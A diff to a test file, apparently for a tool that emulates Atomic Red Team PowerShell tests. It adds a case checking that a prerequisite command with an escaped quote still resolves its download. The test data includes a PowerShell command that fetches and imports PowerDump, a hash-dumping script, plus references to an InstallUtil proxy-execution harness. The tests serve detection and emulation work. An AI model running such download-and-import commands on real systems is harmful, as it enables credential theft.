@@ -133,6 +133,13 @@ describe('loaded code', () => {
     expect(loaded?.fields['ScriptBlockText']).toContain('DumpHashes');
     expect(loaded?.fields['Path']).toBe('C:\\AtomicRedTeam\\atomics\\..\\ExternalPayloads\\PowerDump.ps1');
   });
+  it('a prerequisite whose URL is followed by \\" (a cmd-escaped quote) downloads that URL: the script is found in the store', () => {
+    const run = ps('Import-Module "PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"', {
+      dependencies: [{ getPrereqCommand: `powershell -c "Invoke-WebRequest \\"${POWERDUMP}\\" -OutFile PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"` }],
+    });
+    expect(run.notes).toEqual([]);
+    expect(blocks(run.events).find((e) => e.source)?.source?.file).toBe('payloads/raw.githubusercontent.com/PowerDump.ps1');
+  });
   it('dot-sourcing a script of the atomics folder (T1218.004): its top-level statements start processes', () => {
     const run = ps('. "PathToAtomicsFolder\\T1218.004\\src\\InstallUtilTestHarness.ps1"');
     expect(blocks(run.events).find((e) => e.source)?.source?.file).toBe('atomics/T1218.004/src/InstallUtilTestHarness.ps1');
